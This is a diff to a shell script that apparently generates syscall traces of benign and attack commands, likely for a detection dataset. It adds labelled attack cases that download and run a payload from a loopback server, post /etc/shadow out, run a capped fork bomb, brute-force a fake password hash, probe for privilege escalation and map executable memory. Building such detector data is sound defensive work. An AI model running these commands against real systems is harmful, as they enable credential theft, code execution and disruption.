@@ -21,6 +21,13 @@ mkdir -p "$RAW" "$SCRATCH/data/sub" "$SCRATCH/www" "$SCRATCH/fakeroot/etc/cron.d
 for i in $(seq 1 40); do head -c $((RANDOM * 3)) /dev/urandom | base64 > "$SCRATCH/data/file$i.txt"; done
 for i in $(seq 1 10); do seq 1 $((RANDOM % 500 + 10)) > "$SCRATCH/data/sub/n$i.txt"; done
 echo '<html>hello</html>' > "$SCRATCH/www/index.html"
+printf '#!/bin/sh\nid; uname -a; cat /etc/passwd | head -3\n' > "$SCRATCH/www/payload.sh"
+mkdir -p "$SCRATCH/tmpx" "$SCRATCH/repo"
+git -C "$SCRATCH/repo" init -q
+printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' > "$SCRATCH/hello.c"
+printf 'import sys, collections\nc = collections.Counter(open(sys.argv[1]).read().split())\nprint(c.most_common(3))\n' > "$SCRATCH/script.py"
+echo "root:$(printf 'zebra42' | sha256sum | cut -d' ' -f1):19000:0:99999:7:::" > "$SCRATCH/fakeroot/etc/shadow"
+for w in $(seq 1 3000); do echo "pw$w"; done > "$SCRATCH/words.txt"; echo zebra42 >> "$SCRATCH/words.txt"
 head -c 200000 /dev/urandom > "$SCRATCH/www/blob.bin"
 
 # loopback services: a static web server and a "C2" listener that feeds commands to whoever connects
@@ -52,7 +59,7 @@ pick() { local a=("$@"); echo "${a[RANDOM % ${#a[@]}]}"; }
 # Each *_cmd sets CMD (an argv array) so arguments with spaces and quotes survive intact.
 normal_cmd() {
   local f="$D/file$((RANDOM % 40 + 1)).txt" n="$D/sub/n$((RANDOM % 10 + 1)).txt"
-  case $((RANDOM % 16)) in
+  case $((RANDOM % 21)) in
     0) CMD=(ls $(pick -l -la -1 -R -lh -a) "$D") ;;
     1) CMD=(cat "$f") ;;
     2) CMD=(gzip -c "$f") ;;
@@ -69,6 +76,11 @@ normal_cmd() {
     13) CMD=(sh -c "ls $D | wc -l") ;;
     14) CMD=(xz -c -1 "$f") ;;
     15) CMD=(date $(pick +%s -u -R)) ;;
+    16) CMD=(sh -c "cd $SCRATCH/repo && echo $RANDOM >> log.txt && git add -A && git -c user.email=e@x -c user.name=n commit -qm c$RANDOM && git log --oneline | head -3") ;;
+    17) CMD=(cc -O1 -o "$SCRATCH/hello" "$SCRATCH/hello.c") ;;
+    18) CMD=(sh -c "for i in 1 2 3 4 5; do curl -s http://127.0.0.1:$PORT/index.html >/dev/null & done; wait") ;;
+    19) CMD=(tar -czf "$SCRATCH/out.tgz" -C "$D" .) ;;
+    20) CMD=("$PY" "$SCRATCH/script.py" "$n") ;;
   esac
 }
 
@@ -89,9 +101,21 @@ print(ctypes.addressof(ctypes.c_char.from_buffer(m)))") ;;
     cron-persist) CMD=(sh -c "echo '* * * * * root /tmp/x' > $SCRATCH/fakeroot/etc/cron.d/job; chmod 644 $SCRATCH/fakeroot/etc/cron.d/job") ;;
     ssh-key-hunt) CMD=(find / -xdev -maxdepth 4 -name 'id_*' -path '*/.ssh/*') ;;
     exfil-curl) CMD=(curl -s -X POST --data-binary @/etc/shadow "http://127.0.0.1:$PORT/upload") ;;
+    download-exec) CMD=(sh -c "curl -s -o $SCRATCH/tmpx/payload http://127.0.0.1:$PORT/payload.sh && chmod +x $SCRATCH/tmpx/payload && $SCRATCH/tmpx/payload") ;;
+    fork-bomb) CMD=(bash -c 'ulimit -u 400; f() { [ "${1:-0}" -lt 3 ] && { f $(( ${1:-0} + 1 )) & f $(( ${1:-0} + 1 )) & wait; }; }; f 0') ;;
+    brute-force) CMD=("$PY" -c "import hashlib
+target = open('$SCRATCH/fakeroot/etc/shadow').read().split(':')[1]
+for w in open('$SCRATCH/words.txt'):
+    if hashlib.sha256(w.strip().encode()).hexdigest() == target: print('found', w.strip()); break") ;;
+    privesc-probe) CMD=(sh -c "id; cat /etc/sudoers 2>/dev/null; sudo -n -l 2>/dev/null; find / -xdev -maxdepth 3 -perm -4000 -type f 2>/dev/null | head; grep Cap /proc/self/status; ls -la /etc/cron.d /root 2>/dev/null") ;;
+    memfd-loader) CMD=("$PY" -c "import os, ctypes, mmap
+fd = os.memfd_create('loader', os.MFD_CLOEXEC if hasattr(os, 'MFD_CLOEXEC') else 0)
+os.write(fd, b'\\x90' * 4096); os.lseek(fd, 0, 0)
+m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE)
+os.close(fd); print(len(m))") ;;
   esac
 }
-KINDS=(shadow-read reverse-shell curl-pipe-sh memfd-exec rwx-memory cron-persist ssh-key-hunt exfil-curl)
+KINDS=(shadow-read reverse-shell curl-pipe-sh memfd-exec rwx-memory cron-persist ssh-key-hunt exfil-curl download-exec fork-bomb brute-force privesc-probe memfd-loader)
 
 # strace -ff writes RAW/run.<pid> per process; each becomes one token file
 to_tokens() { # raw file → tokens on one line
